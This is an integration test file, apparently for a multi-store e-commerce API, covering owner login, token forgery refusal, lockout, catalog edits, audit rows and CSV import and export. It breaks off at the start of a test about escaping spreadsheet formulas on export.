// Owner sign-in (per-store JWT secrets, refresh rotation, lockout) and the owner catalog
// (create, edit, archive, price changes with audit rows, stock movements, sales, adding a variant
// to an existing product), over real HTTP.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { createHmac } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { DEMO_PASSWORD } from '@sokoni/db/dist/seed/index.js';
import { useApiStack } from '../helpers/api-fixture.ts';
import { withClient } from '../helpers/database.ts';
import { demoLogin, jsonCaller } from '../helpers/http.ts';

const stack = useApiStack();

/** A variant as the owner's catalog or the storefront shows it (each field only where given). */
interface VariantView {
  sku: string;
  options: Record<string, string>;
  priceKes: number;
  compareAtKes: number | null;
  currentPriceKes: number;
  onHand: number;
  inStock: boolean;
  status: string;
}
/** A product as the owner's catalog or the storefront shows it (each field only where given). */
interface ProductView {
  slug: string;
  priceKes: number;
  compareAtKes: number | null;
  optionNames: string[];
  variants: VariantView[];
  updatedAt: string;
  images: { url: string; alt: string }[];
}
/**
 * What these tests read of an answer: each part only where the route gives it (the assertions
 * check which; the type does not).
 */
interface Answer {
  refreshToken: string;
  items: ProductView[];
  categories: { slug: string; name: string }[];
  collections: { slug: string; productCount: number }[];
  product: ProductView;
  variant: VariantView;
  cart: { lines: { sku: string; quantity: number }[] };
  productsCreated: number;
  variantsCreated: number;
  variantsUpdated: number;
  rowsImported: number;
  errors: { line: number; errors: string[] }[];
  error: ApiError;
}
/** A refusal with the details these tests read (each only where the refusal gives it). */
interface ApiError {
  code: string;
  message: string;
  details: { permission: string; reason: string; sku: string; field: string; issues: { path: unknown }[] };
}
/** The columns these tests read (each query selects some of them). */
interface DbRow {
  phone: string;
  jwt_secret: string;
  slug: string;
  name: string;
  n: number;
  actor_type: string;
  actor_id: string | null;
  entity_id: string;
  before: Record<string, unknown>;
  after: Record<string, unknown>;
  correlation_id: string | null;
  variants: number;
  movements: number;
  audits: number;
  touched: string;
  kind: string;
  quantity: number;
  reason: string;
  title: string;
  brand: string;
  description: string;
}

const call = jsonCaller<Answer>(() => stack.api.url, '198.51');
const login = (store: string, role: 'owner' | 'admin' | 'staff') => demoLogin(call, store, role);
/** The first `limit` active products of the signed-in owner's catalog. */
const activeProducts = async (token: string, limit = 1) =>
  (await call('GET', `/v1/owner/catalog/products?limit=${limit}&status=active`, undefined, token)).body.items;

const auditRows = (tenantId: string, action: string) =>
  withClient(
    stack.db.ownerUrl,
    async (c) =>
      (
        await c.query<DbRow>(
          `SELECT actor_type, actor_id, entity_id, before, after, correlation_id FROM audit_log WHERE tenant_id = $1 AND action = $2 ORDER BY id`,
          [tenantId, action],
        )
      ).rows,
  );
const { tenantOf } = stack;

describe('owner sign-in', () => {
  test('an owner logs in with email and password, and refresh tokens are single-use', async () => {
    const session = await login('saa-bora', 'owner');
    assert.equal(session.user.role, 'owner');
    assert.match(session.accessToken, /^[\w-]+\.[\w-]+\.[\w-]+$/);
    const refreshed = await call('POST', '/v1/owner/auth/refresh', {
      store: 'saa-bora',
      refreshToken: session.refreshToken,
    });
    assert.equal(refreshed.status, 200);
    assert.notEqual(refreshed.body.refreshToken, session.refreshToken);
    const replay = await call('POST', '/v1/owner/auth/refresh', {
      store: 'saa-bora',
      refreshToken: session.refreshToken,
    });
    assert.equal(replay.status, 401, 'a spent refresh token is refused');
    const logout = await call('POST', '/v1/owner/auth/logout', {
      store: 'saa-bora',
      refreshToken: refreshed.body.refreshToken,
    });
    assert.equal(logout.status, 204);
    assert.equal(
      (await call('POST', '/v1/owner/auth/refresh', { store: 'saa-bora', refreshToken: refreshed.body.refreshToken }))
        .status,
      401,
    );
  });

  test('login by phone works; bad input is a 400', async () => {
    const store = stack.db.seed!.stores.find((s) => s.slug === 'mtindo-fashion')!;
    const phone = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (await c.query<DbRow>(`SELECT phone FROM users WHERE tenant_id = $1 AND role = 'owner'`, [store.tenantId]))
          .rows[0]!.phone,
    );
    assert.equal(
      (await call('POST', '/v1/owner/auth/login', { store: 'mtindo-fashion', phone, password: DEMO_PASSWORD })).status,
      200,
    );
    for (const body of [
      {},
      { store: 'mtindo-fashion', password: 'x' },
      { store: 'mtindo-fashion', email: 'a@b.co', phone, password: 'x' },
      { store: 'mtindo-fashion', phone: '0712345678', password: 'x' },
    ]) {
      const res = await call('POST', '/v1/owner/auth/login', body);
      assert.equal(res.status, 400, JSON.stringify(body));
      assert.equal(res.body.error.code, 'validation_failed');
    }
    assert.equal(
      (
        await call('POST', '/v1/owner/auth/login', {
          store: 'no-such-store',
          email: 'owner@x.sokoni.test',
          password: 'x',
        })
      ).status,
      404,
    );
  });

  test('five wrong passwords lock that account for a while, with a clear message', async () => {
    const email = 'admin@nyumba-living.sokoni.test';
    const attempts: number[] = [];
    for (let i = 0; i < 5; i++)
      attempts.push(
        (await call('POST', '/v1/owner/auth/login', { store: 'nyumba-living', email, password: 'wrong-password' }))
          .status,
      );
    assert.deepEqual(attempts, [401, 401, 401, 401, 401]);
    const locked = await call('POST', '/v1/owner/auth/login', {
      store: 'nyumba-living',
      email,
      password: DEMO_PASSWORD,
    });
    assert.equal(locked.status, 429);
    assert.match(locked.body.error.message, /Too many wrong passwords.*minutes/);
    // Other accounts of the store are not affected.
    await login('nyumba-living', 'owner');
  });

  test("a token is signed with its store's secret: forged or tampered tokens are refused", async () => {
    const owner = await login('saa-bora', 'owner');
    assert.equal((await call('GET', '/v1/owner/catalog/products?limit=1', undefined, owner.accessToken)).status, 200);
    const [header, payload] = owner.accessToken.split('.');
    const claims = JSON.parse(Buffer.from(payload!, 'base64url').toString()) as Record<string, unknown>;
    // Same token re-pointed at another store (tid) keeps the old signature: invalid.
    const otherStore = Buffer.from(JSON.stringify({ ...claims, tid: tenantOf('nairobi-gadgets') })).toString(
      'base64url',
    );
    const forged = `${header}.${otherStore}.${owner.accessToken.split('.')[2]}`;
    assert.equal((await call('GET', '/v1/owner/catalog/products', undefined, forged)).status, 401);
    // Re-signed with store A's secret but claiming store B: B's secret does not verify it.
    const secretA = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(`SELECT jwt_secret FROM tenant_auth_secrets WHERE tenant_id = $1`, [
            tenantOf('saa-bora'),
          ])
        ).rows[0]!.jwt_secret,
    );
    const signature = createHmac('sha256', secretA).update(`${header}.${otherStore}`).digest('base64url');
    assert.equal(
      (await call('GET', '/v1/owner/catalog/products', undefined, `${header}.${otherStore}.${signature}`)).status,
      401,
    );
    // Escalating the role in the payload breaks the signature.
    const admin = Buffer.from(JSON.stringify({ ...claims, role: 'owner' })).toString('base64url');
    const staff = await login('saa-bora', 'staff');
    const [sh, , ss] = staff.accessToken.split('.');
    assert.equal(
      (await call('PATCH', '/v1/owner/catalog/variants/X/price', { priceKes: 1 }, `${sh}.${admin}.${ss}`)).status,
      401,
    );
    assert.equal((await call('GET', '/v1/owner/catalog/products', undefined, 'not-a-token')).status, 401);
    assert.equal((await call('GET', '/v1/owner/catalog/products')).status, 401);
  });

  test('rotating a store secret logs out that store only', async () => {
    const gadgets = await login('nairobi-gadgets', 'owner');
    const saa = await login('saa-bora', 'owner');
    await withClient(stack.db.ownerUrl, (c) =>
      c.query<DbRow>(
        `UPDATE tenant_auth_secrets SET jwt_secret = md5(random()::text) || md5(random()::text), rotated_at = now() WHERE tenant_id = $1`,
        [tenantOf('nairobi-gadgets')],
      ),
    );
    assert.equal((await call('GET', '/v1/owner/catalog/products?limit=1', undefined, gadgets.accessToken)).status, 401);
    assert.equal((await call('GET', '/v1/owner/catalog/products?limit=1', undefined, saa.accessToken)).status, 200);
  });
});

describe('owner catalog', () => {
  test('staff may move stock but not change prices or the catalog; admin may', async () => {
    const staff = await login('saa-bora', 'staff');
    const admin = await login('saa-bora', 'admin');
    const items = await activeProducts(admin.accessToken);
    const sku = items[0]!.variants[0]!.sku;
    const denied = await call('PATCH', `/v1/owner/catalog/variants/${sku}/price`, { priceKes: 999 }, staff.accessToken);
    assert.equal(denied.status, 403);
    assert.equal(denied.body.error.details.permission, 'prices.write');
    assert.equal(
      (
        await call(
          'POST',
          '/v1/owner/catalog/products',
          { title: 'x', variants: [{ sku: 'S1', priceKes: 10 }] },
          staff.accessToken,
        )
      ).status,
      403,
    );
    assert.equal(
      (
        await call(
          'POST',
          `/v1/owner/catalog/variants/${sku}/inventory`,
          { kind: 'restock', quantity: 3 },
          staff.accessToken,
        )
      ).status,
      201,
    );
    assert.equal(
      (await call('PATCH', `/v1/owner/catalog/variants/${sku}/price`, { priceKes: 999 }, admin.accessToken)).status,
      200,
    );
  });

  test('the categories list has every category of the store, empty ones too (the storefront lists only those with products)', async () => {
    const tenantId = tenantOf('saa-bora');
    await withClient(stack.db.ownerUrl, (c) =>
      c.query<DbRow>(
        `INSERT INTO categories (tenant_id, slug, name, position) VALUES ($1, 'empty-shelf-test', 'Empty shelf', 999)`,
        [tenantId],
      ),
    );
    const staff = await login('saa-bora', 'staff');
    const listed = await call('GET', '/v1/owner/catalog/categories', undefined, staff.accessToken);
    assert.equal(listed.status, 200, JSON.stringify(listed.body));
    const all = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(`SELECT slug, name FROM categories WHERE tenant_id = $1 ORDER BY position, name`, [
            tenantId,
          ])
        ).rows,
    );
    assert.deepEqual(listed.body.categories, all);
    assert.ok(listed.body.categories.some((k) => k.slug === 'empty-shelf-test'));
    const storefront = await call('GET', '/v1/stores/saa-bora/categories');
    assert.ok(!storefront.body.categories.some((k) => k.slug === 'empty-shelf-test'), 'the storefront hides it');
    assert.equal((await call('GET', '/v1/owner/catalog/categories')).status, 401);
  });

  test('creating a product puts it in the storefront; bad input writes nothing', async () => {
    const owner = await login('nairobi-gadgets', 'owner');
    const product = {
      title: 'Tecno Spark 30 Pro',
      brand: 'Tecno',
      description: 'Dual SIM, 1-year warranty.',
      categorySlug: 'phones',
      optionNames: ['Storage'],
      variants: [
        { sku: 'TEST-SPK30-128', options: { Storage: '128GB' }, priceKes: 21999, stock: 4 },
        { sku: 'TEST-SPK30-256', options: { Storage: '256GB' }, priceKes: 25999, compareAtKes: 27999, stock: 0 },
      ],
    };
    const created = await call('POST', '/v1/owner/catalog/products', product, owner.accessToken);
    assert.equal(created.status, 201, JSON.stringify(created.body));
    assert.equal(created.body.product.slug, 'tecno-spark-30-pro');
    assert.deepEqual(
      created.body.product.variants.map((v) => v.onHand),
      [4, 0],
    );
    const storefront = await call('GET', '/v1/stores/nairobi-gadgets/products/tecno-spark-30-pro');
    assert.equal(storefront.status, 200);
    assert.equal(storefront.body.product.priceKes, 21999);
    const again = await call('POST', '/v1/owner/catalog/products', product, owner.accessToken);
    assert.equal(again.status, 409, 'same SKUs again');
    const count = () =>
      withClient(
        stack.db.ownerUrl,
        async (c) =>
          (
            await c.query<DbRow>(
              `SELECT (SELECT count(*) FROM products) + (SELECT count(*) FROM product_variants) AS n`,
            )
          ).rows[0]!.n,
      );
    const before = await count();
    for (const bad of [
      { ...product, variants: [] },
      { ...product, title: '' },
      { ...product, variants: [{ sku: 'B1', options: { Storage: '1' }, priceKes: 12.5 }] },
      { ...product, variants: [{ sku: 'B2', options: { Storage: '1' }, priceKes: -3 }] },
      { ...product, variants: [{ sku: 'B3', options: { Colour: 'Red' }, priceKes: 100 }] },
      {
        ...product,
        categorySlug: 'no-such-category',
        slug: 'fresh-slug',
        variants: [{ sku: 'B4', options: { Storage: '1' }, priceKes: 100 }],
      },
      {
        ...product,
        slug: 'fresh-slug-2',
        variants: [
          { sku: 'B5', options: { Storage: '1' }, priceKes: 100 },
          { sku: 'TEST-SPK30-128', options: { Storage: '2' }, priceKes: 100 },
        ],
      },
    ]) {
      const res = await call('POST', '/v1/owner/catalog/products', bad, owner.accessToken);
      assert.ok(res.status === 400 || res.status === 409, `${res.status} ${JSON.stringify(res.body)}`);
      assert.ok(res.body.error.code);
    }
    assert.equal(await count(), before, 'no partial writes');
  });

  test('a price change shows in the storefront and leaves an audit row with before/after', async () => {
    const owner = await login('mtindo-fashion', 'owner');
    const items = await activeProducts(owner.accessToken, 5);
    const product = items.find((p) => p.variants.every((v) => v.currentPriceKes === v.priceKes))!;
    const variant = product.variants[0]!;
    const res = await fetch(`${stack.api.url}/v1/owner/catalog/variants/${variant.sku}/price`, {
      method: 'PATCH',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${owner.accessToken}`,
        'x-request-id': 'price-change-test-1',
      },
      body: JSON.stringify({ priceKes: 1234, compareAtKes: null }),
    });
    assert.equal(res.status, 200);
    const detail = await call('GET', `/v1/stores/mtindo-fashion/products/${product.slug}`);
    assert.equal(detail.body.product.variants.find((v) => v.sku === variant.sku)?.priceKes, 1234);
    const rows = await auditRows(tenantOf('mtindo-fashion'), 'product.price_changed');
    const row = rows.find((r) => r.entity_id === variant.sku)!;
    assert.deepEqual(row.before, { priceKes: variant.priceKes, compareAtKes: variant.compareAtKes });
    assert.deepEqual(row.after, { priceKes: 1234, compareAtKes: null });
    assert.equal(row.actor_type, 'user');
    assert.equal(row.correlation_id, 'price-change-test-1');
    const invalid = await call(
      'PATCH',
      `/v1/owner/catalog/variants/${variant.sku}/price`,
      { priceKes: 500, compareAtKes: 400 },
      owner.accessToken,
    );
    assert.equal(invalid.status, 400);
    assert.equal(
      (await call('PATCH', '/v1/owner/catalog/variants/NO-SUCH-SKU/price', { priceKes: 5 }, owner.accessToken)).status,
      404,
    );
  });

  test('stock never goes below zero; adjustments are audited', async () => {
    const owner = await login('nyumba-living', 'owner');
    const items = await activeProducts(owner.accessToken, 3);
    const variant = items[0]!.variants[0]!;
    const tooMuch = await call(
      'POST',
      `/v1/owner/catalog/variants/${variant.sku}/inventory`,
      { kind: 'adjustment', quantity: -(variant.onHand + 1), reason: 'count' },
      owner.accessToken,
    );
    assert.equal(tooMuch.status, 409);
    assert.equal(tooMuch.body.error.details.reason, 'insufficient_stock');
    const ok = await call(
      'POST',
      `/v1/owner/catalog/variants/${variant.sku}/inventory`,
      { kind: 'adjustment', quantity: -variant.onHand, reason: 'stock count' },
      owner.accessToken,
    );
    assert.equal(ok.status, 201);
    assert.equal(ok.body.variant.onHand, 0);
    assert.equal(
      (
        await call(
          'POST',
          `/v1/owner/catalog/variants/${variant.sku}/inventory`,
          { kind: 'restock', quantity: -2 },
          owner.accessToken,
        )
      ).status,
      400,
    );
    const audits = await auditRows(tenantOf('nyumba-living'), 'inventory.adjusted');
    assert.ok(audits.some((a) => a.entity_id === variant.sku && a.after.onHand === 0));
  });

  test('a sale is scheduled once per window; the storefront shows the sale price inside it', async () => {
    const owner = await login('nairobi-gadgets', 'owner');
    const created = await call(
      'POST',
      '/v1/owner/catalog/products',
      {
        title: 'Oraimo FreePods Test',
        categorySlug: 'audio',
        variants: [{ sku: 'TEST-FP-1', priceKes: 3000, stock: 10 }],
      },
      owner.accessToken,
    );
    assert.equal(created.status, 201);
    const window = {
      salePriceKes: 2499,
      startsAt: new Date(Date.now() - 60_000).toISOString(),
      endsAt: new Date(Date.now() + 3_600_000).toISOString(),
    };
    assert.equal(
      (await call('POST', '/v1/owner/catalog/variants/TEST-FP-1/sales', window, owner.accessToken)).status,
      201,
    );
    const overlap = await call(
      'POST',
      '/v1/owner/catalog/variants/TEST-FP-1/sales',
      { ...window, salePriceKes: 2000 },
      owner.accessToken,
    );
    assert.equal(overlap.status, 409);
    assert.equal(
      (
        await call(
          'POST',
          '/v1/owner/catalog/variants/TEST-FP-1/sales',
          { ...window, salePriceKes: 3500 },
          owner.accessToken,
        )
      ).status,
      400,
    );
    const card = await call('GET', '/v1/stores/nairobi-gadgets/products/oraimo-freepods-test');
    assert.equal(card.body.product.priceKes, 2499);
    assert.equal(card.body.product.compareAtKes, 3000);
  });

  test('archiving hides a product from shoppers and is audited', async () => {
    const owner = await login('saa-bora', 'owner');
    const items = await activeProducts(owner.accessToken);
    const slug = items[0]!.slug;
    assert.equal(
      (await call('POST', `/v1/owner/catalog/products/${slug}/archive`, undefined, owner.accessToken)).status,
      200,
    );
    assert.equal((await call('GET', `/v1/stores/saa-bora/products/${slug}`)).status, 404);
    const audits = await auditRows(tenantOf('saa-bora'), 'product.archived');
    assert.ok(
      audits.some((a) => a.entity_id === slug && a.before.status === 'active' && a.after.status === 'archived'),
    );
  });
});

describe('adding a variant to a product', () => {
  const STORE = 'nairobi-gadgets';
  const variantsPath = (product: string) => `/v1/owner/catalog/products/${product}/variants`;
  /** Everything an addition writes, in every store: a refusal must leave all of it as it was. */
  const writes = () =>
    withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(`SELECT
      (SELECT count(*) FROM product_variants)::int AS variants,
      (SELECT count(*) FROM inventory_movements)::int AS movements,
      (SELECT count(*) FROM audit_log WHERE action = 'product.variant_added')::int AS audits,
      (SELECT max(updated_at) FROM products)::text AS touched`)
        ).rows[0],
    );

  test('an owner adds a new colour: 201 with the product, opening stock as a restock movement, audited, sellable in the shop', async () => {
    const owner = await login(STORE, 'owner');
    const before = await call('GET', '/v1/owner/catalog/products/jbl-go-3', undefined, owner.accessToken);
    assert.equal(before.status, 200);
    assert.deepEqual(before.body.product.optionNames, ['Colour']);
    const res = await fetch(`${stack.api.url}${variantsPath('jbl-go-3')}`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${owner.accessToken}`,
        'x-request-id': 'add-variant-test-1',
        'x-forwarded-for': '198.51.202.1',
      },
      body: JSON.stringify({
        sku: 'JBL-GO3-GRN',
        options: { Colour: ' Green ' },
        priceKes: 5299,
        compareAtKes: 5499,
        stock: 7,
      }),
    });
    const body = (await res.json()) as Answer;
    assert.equal(res.status, 201, JSON.stringify(body));
    const added = {
      sku: 'JBL-GO3-GRN',
      options: { Colour: 'Green' },
      priceKes: 5299,
      compareAtKes: 5499,
      currentPriceKes: 5299,
      onHand: 7,
      status: 'active',
    };
    assert.deepEqual(
      body.product.variants,
      [...before.body.product.variants, added],
      'listed last, the others unchanged',
    );
    const after = await call('GET', '/v1/owner/catalog/products/jbl-go-3', undefined, owner.accessToken);
    assert.deepEqual(after.body.product, body.product, 'the answer is the product as GET gives it');
    assert.ok(after.body.product.updatedAt > before.body.product.updatedAt, 'the product counts as changed');

    const moves = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(
            `SELECT m.kind, m.quantity, m.reason FROM inventory_movements m
      JOIN product_variants v ON v.tenant_id = m.tenant_id AND v.id = m.variant_id WHERE v.tenant_id = $1 AND v.sku = 'JBL-GO3-GRN'`,
            [tenantOf(STORE)],
          )
        ).rows,
    );
    assert.deepEqual(
      moves,
      [{ kind: 'restock', quantity: 7, reason: 'opening stock' }],
      'opening stock is a restock in the ledger, as on creation',
    );
    const [audit] = (await auditRows(tenantOf(STORE), 'product.variant_added')).filter(
      (a) => a.entity_id === 'JBL-GO3-GRN',
    );
    assert.deepEqual(audit?.after, {
      product: 'jbl-go-3',
      sku: 'JBL-GO3-GRN',
      options: { Colour: 'Green' },
      priceKes: 5299,
      compareAtKes: 5499,
      stock: 7,
    });
    assert.equal(audit?.actor_type, 'user');
    assert.equal(audit?.correlation_id, 'add-variant-test-1');

    const shop = await call('GET', `/v1/stores/${STORE}/products/jbl-go-3`);
    assert.equal(shop.status, 200);
    const offered = shop.body.product.variants.find((v) => v.sku === 'JBL-GO3-GRN');
    assert.ok(offered, JSON.stringify(shop.body.product.variants));
    assert.deepEqual(offered.options, { Colour: 'Green' });
    assert.equal(offered.priceKes, 5299);
    assert.equal(offered.inStock, true);
    const cart = await call('POST', `/v1/stores/${STORE}/cart/lines`, { sku: 'JBL-GO3-GRN', quantity: 2 });
    assert.equal(cart.status, 200, JSON.stringify(cart.body));
    assert.ok(
      cart.body.cart.lines.some((l) => l.sku === 'JBL-GO3-GRN' && l.quantity === 2),
      'a shopper can buy it',
    );

    // Without stock: no movement; an admin (catalog.write) may add one too.
    const admin = await login(STORE, 'admin');
    const none = await call(
      'POST',
      variantsPath('jbl-go-3'),
      { sku: 'JBL-GO3-WHT', options: { Colour: 'White' }, priceKes: 5499 },
      admin.accessToken,
    );
    assert.equal(none.status, 201, JSON.stringify(none.body));
    assert.deepEqual(none.body.product.variants.at(-1), {
      sku: 'JBL-GO3-WHT',
      options: { Colour: 'White' },
      priceKes: 5499,
      compareAtKes: null,
      currentPriceKes: 5499,
      onHand: 0,
      status: 'active',
    });
    const noMoves = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(
            `SELECT 1 FROM inventory_movements m JOIN product_variants v ON v.id = m.variant_id WHERE v.sku = 'JBL-GO3-WHT'`,
          )
        ).rows,
    );
    assert.equal(noMoves.length, 0);
  });

  test("refusals: a combination it has, a SKU the store uses, options that are not the product's, bad prices, staff, another store: each writes nothing", async () => {
    const owner = await login(STORE, 'owner');
    const staff = await login(STORE, 'staff');
    const elsewhere = await login('saa-bora', 'owner');
    const [plain] = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(
            `SELECT slug FROM products WHERE tenant_id = $1 AND option_names = '{}' AND status = 'active' ORDER BY slug LIMIT 1`,
            [tenantOf(STORE)],
          )
        ).rows,
    );
    assert.ok(plain, 'a product without options');
    const good = { sku: 'JBL-GO3-ORG', options: { Colour: 'Orange' }, priceKes: 5499, stock: 3 };
    const start = await writes();

    const refusals: {
      what: string;
      product?: string;
      body: unknown;
      token?: string;
      status: number;
      check?: (error: ApiError) => void;
    }[] = [
      {
        what: 'a colour it has (any case)',
        body: { ...good, options: { Colour: 'blue' } },
        status: 409,
        check: (e) => {
          assert.equal(e.details.reason, 'variant_exists');
          assert.equal(e.details.sku, 'JBL-GO3-BLU');
          assert.match(e.message, /already has Colour: Blue/);
        },
      },
      {
        what: 'a colour just added',
        body: { ...good, options: { Colour: 'Green' } },
        status: 409,
        check: (e) => assert.equal(e.details.reason, 'variant_exists'),
      },
      {
        what: 'a SKU of another product',
        body: { ...good, sku: 'SAM-A05-64-BLK' },
        status: 409,
        check: (e) => {
          assert.equal(e.details.field, 'sku');
          assert.match(e.message, /already used/);
        },
      },
      {
        what: 'a SKU of this product',
        body: { ...good, sku: 'JBL-GO3-BLK' },
        status: 409,
        check: (e) => assert.equal(e.details.field, 'sku'),
      },
      {
        what: 'another option name',
        body: { ...good, options: { Color: 'Orange' } },
        status: 400,
        check: (e) => {
          assert.equal(e.code, 'validation_failed');
          assert.equal(e.details.field, 'options');
          assert.ok(e.details.issues.length);
        },
      },
      {
        what: 'no options',
        body: { sku: good.sku, priceKes: 5499 },
        status: 400,
        check: (e) =>
          assert.deepEqual(
            e.details.issues.map((i) => i.path),
            ['options.Colour'],
          ),
      },
      { what: 'an option too many', body: { ...good, options: { Colour: 'Orange', Size: 'L' } }, status: 400 },
      {
        what: 'one of two options',
        product: 'samsung-galaxy-a05',
        body: { ...good, options: { Colour: 'Purple' } },
        status: 400,
        check: (e) =>
          assert.deepEqual(
            e.details.issues.map((i) => i.path),
            ['options.Storage'],
          ),
      },
      { what: 'an empty value', body: { ...good, options: { Colour: '   ' } }, status: 400 },
      {
        what: 'a product without options',
        product: plain.slug,
        body: { ...good, options: { Colour: 'Orange' } },
        status: 409,
        check: (e) => {
          assert.equal(e.details.reason, 'no_options');
          assert.match(e.message, /no options/);
        },
      },
      { what: 'a price in cents', body: { ...good, priceKes: 5499.5 }, status: 400 },
      { what: 'a price of 0', body: { ...good, priceKes: 0 }, status: 400 },
      { what: 'a negative price', body: { ...good, priceKes: -5 }, status: 400 },
      { what: 'a price as text', body: { ...good, priceKes: '5499' }, status: 400 },
      { what: 'no price', body: { sku: good.sku, options: good.options }, status: 400 },
      { what: '"was" below the price', body: { ...good, compareAtKes: 5000 }, status: 400 },
      { what: 'negative stock', body: { ...good, stock: -1 }, status: 400 },
      { what: 'a SKU with spaces', body: { ...good, sku: 'JBL GO3' }, status: 400 },
      { what: 'not an object', body: ['x'], status: 400 },
      {
        what: 'staff',
        body: good,
        token: staff.accessToken,
        status: 403,
        check: (e) => assert.equal(e.details.permission, 'catalog.write'),
      },
      { what: "another store's product", body: good, token: elsewhere.accessToken, status: 404 },
      { what: 'no such product', product: 'no-such-product', body: good, status: 404 },
      { what: 'a bad slug', product: 'Bad_Slug', body: good, status: 400 },
    ];
    for (const r of refusals) {
      const res = await call('POST', variantsPath(r.product ?? 'jbl-go-3'), r.body, r.token ?? owner.accessToken);
      assert.equal(res.status, r.status, `${r.what}: ${res.status} ${JSON.stringify(res.body)}`);
      assert.ok(res.body.error?.code && res.body.error.message, r.what);
      if (res.status === 400 && res.body.error.code === 'validation_failed')
        assert.ok(
          Array.isArray(res.body.error.details.issues) && res.body.error.details.issues.length,
          `${r.what}: issues listed`,
        );
      r.check?.(res.body.error);
    }
    assert.equal((await call('POST', variantsPath('jbl-go-3'), good)).status, 401, 'no token');
    assert.deepEqual(await writes(), start, 'no variant, movement, audit row or product change from any refusal');
    const shop = await call('GET', `/v1/stores/saa-bora/products/jbl-go-3`);
    assert.equal(shop.status, 404, 'the other store still has no such product');

    // The same request, good, goes through once; again it is the combination it now has.
    assert.equal((await call('POST', variantsPath('jbl-go-3'), good, owner.accessToken)).status, 201);
    const again = await call('POST', variantsPath('jbl-go-3'), { ...good, sku: 'JBL-GO3-ORG-2' }, owner.accessToken);
    assert.equal(again.status, 409);
    assert.equal(again.body.error.details.reason, 'variant_exists');
  });
});

describe('catalog CSV', () => {
  async function importCsv(csv: string, token: string) {
    const res = await fetch(`${stack.api.url}/v1/owner/catalog/import`, {
      method: 'POST',
      headers: { 'content-type': 'text/csv', authorization: `Bearer ${token}`, 'x-forwarded-for': '198.51.200.1' },
      body: csv,
    });
    return { status: res.status, body: (await res.json()) as Answer };
  }
  const header =
    'product_slug,title,brand,category,description,status,option1_name,option1_value,sku,price_kes,compare_at_kes,stock';

  test('good rows are imported, bad rows are reported by line, nothing half-written', async () => {
    const owner = await login('mtindo-fashion', 'owner');
    const csv = [
      header,
      'kitenge-wrap-test,Kitenge Wrap Dress,Mtindo Studio,,Cotton wax print.,active,Size,M,CSV-KW-M,2800,,5', // 2
      'kitenge-wrap-test,Kitenge Wrap Dress,Mtindo Studio,,Cotton wax print.,active,Size,L,CSV-KW-L,2800,3200,2', // 3
      'kitenge-wrap-test,Kitenge Wrap Dress,Mtindo Studio,,Cotton wax print.,active,Size,XL,CSV-KW-XL,"2,800",,1', // 4: comma in price
      'bad slug!,Broken,,,,active,,,CSV-BAD-1,100,,1', // 5
      'no-price-test,No Price,,,,active,,,CSV-NP-1,,,1', // 6
      'cheap-test,Cheap Thing,,,,active,,,CSV-CH-1,500,400,1', // 7: compare below price
      'ghost-category,Ghost,,no-such-category,,active,,,CSV-GH-1,100,,1', // 8
      'kitenge-wrap-test,Kitenge Wrap Dress,Mtindo Studio,,Cotton wax print.,active,Size,S,CSV-KW-M,2800,,5', // 9: duplicate sku
      'plain-tote-test,Plain Tote,,,,active,,,CSV-TOTE-1,900,,10', // 10
    ].join('\n');
    const { status, body } = await importCsv(csv, owner.accessToken);
    assert.equal(status, 200, JSON.stringify(body));
    assert.equal(body.productsCreated, 2);
    assert.equal(body.variantsCreated, 3);
    assert.equal(body.rowsImported, 3);
    assert.deepEqual(
      body.errors.map((e) => e.line),
      [4, 5, 6, 7, 8, 9],
    );
    assert.match(body.errors[0]!.errors.join(' '), /whole number/);
    assert.match(body.errors.find((e) => e.line === 8)!.errors.join(' '), /category "no-such-category" does not exist/);
    assert.match(body.errors.find((e) => e.line === 9)!.errors.join(' '), /already appears on line 2/);
    const product = await call('GET', '/v1/stores/mtindo-fashion/products/kitenge-wrap-test');
    assert.deepEqual(
      product.body.product.variants.map((v) => v.sku),
      ['CSV-KW-M', 'CSV-KW-L'],
    );
    for (const missing of ['ghost-category', 'cheap-test', 'no-price-test']) {
      assert.equal(
        (await call('GET', `/v1/stores/mtindo-fashion/products/${missing}`)).status,
        404,
        `${missing} not half-written`,
      );
    }
  });

  test('export then re-import with a changed price updates it and audits the change', async () => {
    const owner = await login('saa-bora', 'owner');
    const res = await fetch(`${stack.api.url}/v1/owner/catalog/export.csv`, {
      headers: { authorization: `Bearer ${owner.accessToken}`, 'x-forwarded-for': '198.51.200.2' },
    });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type')!, /text\/csv/);
    const csv = await res.text();
    const lines = csv.trim().split('\n');
    assert.equal(
      lines[0],
      'product_slug,title,brand,category,description,status,option1_name,option1_value,option2_name,option2_value,option3_name,option3_value,sku,price_kes,compare_at_kes,stock',
    );
    const variantCount = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(`SELECT count(*)::int AS n FROM product_variants WHERE tenant_id = $1`, [
            tenantOf('saa-bora'),
          ])
        ).rows[0]!.n,
    );
    assert.equal(lines.length - 1, variantCount);
    // Re-import the whole export unchanged: nothing is refused, nothing created.
    const same = await importCsv(csv, owner.accessToken);
    assert.equal(same.status, 200);
    assert.deepEqual(same.body.errors, []);
    assert.equal(same.body.productsCreated + same.body.variantsCreated, 0);
    const records = parse(csv);
    const cells = records.find((r) => r[0] === 'casio-f-91w')!;
    cells[14] = '';
    cells[13] = String(Number(cells[13]) - 100);
    const changed = await importCsv(stringify([records[0]!, cells]), owner.accessToken);
    assert.equal(changed.body.variantsUpdated, 1);
    const audits = await auditRows(tenantOf('saa-bora'), 'product.price_changed');
    assert.ok(audits.some((a) => a.entity_id === cells[12] && a.after.priceKes === Number(cells[13])));
  });

  test('export: text cells that a spreadsheet would run as a formula start with an apostrophe; re-importing the file restores them unchanged', async () => {
    const owner = await login('saa-bora', 'owner');
